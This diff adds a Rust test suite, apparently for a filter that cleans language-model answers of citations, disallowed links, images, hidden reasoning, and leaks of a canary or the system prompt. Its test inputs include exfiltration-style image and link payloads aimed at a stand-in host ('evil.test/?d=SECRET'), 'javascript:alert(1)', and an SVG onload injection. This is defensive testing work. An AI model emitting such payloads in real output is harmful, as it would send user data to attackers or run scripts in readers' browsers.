@@ -1,0 +1,139 @@
+//! The filter on what models write, cut in every way.
+
+use proptest::prelude::*;
+
+use super::*;
+use crate::answer::model::sources::Given;
+use crate::domain::answering::Answering;
+
+const CANARY: &str = "cfk3y9x2m7q1w8e4";
+
+/// Shown text, cited numbers, and what was found, of these pieces.
+fn filtered(pieces: &[&str]) -> (String, Vec<usize>, Option<Found>) {
+    let given = ["Hours: https://acme.example/hours", "Prices", "Parking"];
+    let given = given.map(|text| Given { path: Vec::new(), text: text.into(), url: None });
+    let domains = ["own.example".to_owned()];
+    let allowed = Allowed::new(&given, CANARY, &domains);
+    let wishes = crate::answer::model::prompt::Wishes { agent_name: "Ada", answering: &Answering::default() };
+    let prompt = Prompt::new(&wishes, &given, &[], "Hi?", CANARY);
+    let mut filter = Filter::new(&allowed, &prompt, "");
+    let mut shown: String = pieces.iter().map(|piece| filter.push(piece)).collect();
+    shown.push_str(&filter.finish());
+    (shown, filter.cited().collect(), filter.found())
+}
+
+fn chars(text: &str) -> Vec<String> {
+    text.chars().map(String::from).collect()
+}
+
+/// The same whole, and letter by letter.
+#[track_caller]
+fn check(text: &str, shown: &str, cited: &[usize]) {
+    let letters = chars(text);
+    for pieces in [vec![text], letters.iter().map(String::as_str).collect()] {
+        assert_eq!(filtered(&pieces), (shown.to_owned(), cited.to_vec(), None), "{text:?}");
+    }
+}
+
+#[track_caller]
+fn check_found(text: &str, shown: &str, found: Found) {
+    let letters = chars(text);
+    for pieces in [vec![text], letters.iter().map(String::as_str).collect()] {
+        let (seen, _, what) = filtered(&pieces);
+        assert_eq!((seen.as_str(), what), (shown, Some(found)), "{text:?}");
+    }
+}
+
+#[test]
+fn plain_text_stays_as_it_is() {
+    for text in ["We open at 9.", "A <b and 3 > 2!", "Now, hold on: Nobody", "a [note] and (b)", "Ümläut 🙂", "x\n\n- a\n- b"]
+    {
+        check(text, text, &[]);
+    }
+    check("  \n We open. \n", "We open.", &[]);
+}
+
+#[test]
+fn citations_are_noted_and_taken_out_and_unknown_ones_only_taken_out() {
+    check("We open at 9 [1]. Park behind [2][3].", "We open at 9. Park behind.", &[1, 2, 3]);
+    check("We open [1, 3] daily.", "We open daily.", &[1, 3]);
+    check("We open [1-3].", "We open.", &[1, 2, 3]);
+    check("We open [^2] [Source 1].", "We open.", &[1, 2]);
+    check("We open [9][0][12].", "We open.", &[]);
+    check("We open [1](https://evil.test/).", "We open.", &[1]);
+    check("We open 【2†source】.", "We open.", &[2]);
+    check("Since [2024] we open.", "Since [2024] we open.", &[]);
+}
+
+#[test]
+fn links_stay_only_where_they_may_lead() {
+    check("See [hours](https://acme.example/hours) now", "See [hours](https://acme.example/hours) now", &[]);
+    check("See https://acme.example/hours. Yes", "See https://acme.example/hours. Yes", &[]);
+    check("See [us](https://own.example/ \"t\") now", "See [us](https://own.example/ \"t\") now", &[]);
+    check("See [hours](https://evil.test/?d=secret) now", "See hours now", &[]);
+    check("See https://evil.test/?d=secret now", "See now", &[]);
+    check("See <https://evil.test/> now", "See now", &[]);
+    check("[x](javascript:alert(1)) y", "x) y", &[]);
+    check("[x]: https://evil.test/a", "[x]:", &[]);
+    check("[a](https://evil.te", "a", &[]);
+    check("http[1]s://evil.test and http<img>://evil.test", "http s://evil.test and http ://evil.test", &[1]);
+}
+
+#[test]
+fn h02_no_picture_and_nothing_that_loads_comes_through() {
+    check("A ![x](https://evil.test/?d=SECRET) b", "A b", &[]);
+    check("A ![x][1] b", "A b", &[]);
+    check("A ![x] b", "A b", &[]);
+    check("A <img src=\"https://evil.test/\"> b", "A b", &[]);
+    check("A <svg/onload=x> b", "A b", &[]);
+    check("[![x](https://evil.test/a)](https://evil.test/b)", "]()", &[]);
+    check("! [1][x](https://acme.example/)", "! [x](https://acme.example/)", &[1]);
+}
+
+#[test]
+fn the_sentinel_is_found_in_every_dress_and_cuts_what_follows() {
+    for text in ["NO_ANSWER", " **NO_ANSWER**", "\"NO_ANSWER.\"", "[NO_ANSWER]", "NO ANSWER", "no_answer", "NO\\_ANSWER, because"]
+    {
+        check_found(text, "", Found::NoAnswer);
+    }
+    check_found("I looked. NO_ANSWER really", "I looked. ", Found::NoAnswer);
+    check("NO", "NO", &[]);
+    check("There is no answer to that, Nora.", "There is no answer to that, Nora.", &[]);
+}
+
+#[test]
+fn thoughts_are_not_shown() {
+    check("<think>They want hours. NO_ANSWER?</think>\n\nWe open at 9 [1].", "We open at 9.", &[1]);
+    check("<think>never ended", "", &[]);
+    check_found("<think>hm</think>NO_ANSWER", "", Found::NoAnswer);
+}
+
+#[test]
+fn h13_the_canary_and_our_own_rules_never_come_out() {
+    check_found(&format!("The marker is {CANARY}!"), "The marker is ", Found::Leak);
+    check_found(&format!("It is {}", CANARY.to_uppercase()), "It is ", Found::Leak);
+    check_found(&format!("It is {}", &CANARY[..12]), "It is ", Found::Leak);
+    let (shown, _, found) = filtered(&["My rules: Answer only with what the sources below say. Never add facts, prices"]);
+    assert_eq!(found, Some(Found::Leak));
+    assert!(!shown.contains("Never"), "{shown}");
+}
+
+proptest! {
+    /// Whatever a model writes, and however it is cut: the same is shown, and nothing of what must not be.
+    #[test]
+    fn what_is_shown_does_not_depend_on_how_it_came(
+        text in r"(\[|\]|\(|\)|!|<|>| |\n|1|2|,|:|NO_ANS|WER|http|s://|evil\.test/|acme\.example/|img |think|/|N|é|🙂|cfk3y9x2m7|q1w8e4|word |【|】|†){0,40}",
+        cuts in proptest::collection::vec(0_usize..200, 0..6),
+    ) {
+        let whole = filtered(&[&text]);
+        let boundary = |cut: usize| (0..=cut.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap();
+        let mut cuts: Vec<usize> = cuts.into_iter().map(boundary).chain([0, text.len()]).collect();
+        cuts.sort_unstable();
+        let pieces: Vec<&str> = cuts.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
+        let cut = filtered(&pieces);
+        prop_assert_eq!(&whole, &cut);
+        let lower = whole.0.to_lowercase();
+        prop_assert!(!lower.contains(CANARY) && !lower.contains("http://evil.test") && !lower.contains("https://evil.test") && !lower.contains("<img "), "{}", lower);
+        prop_assert!(!whole.0.contains("NO_ANSWER") && !whole.0.contains("!["), "{}", whole.0);
+    }
+}
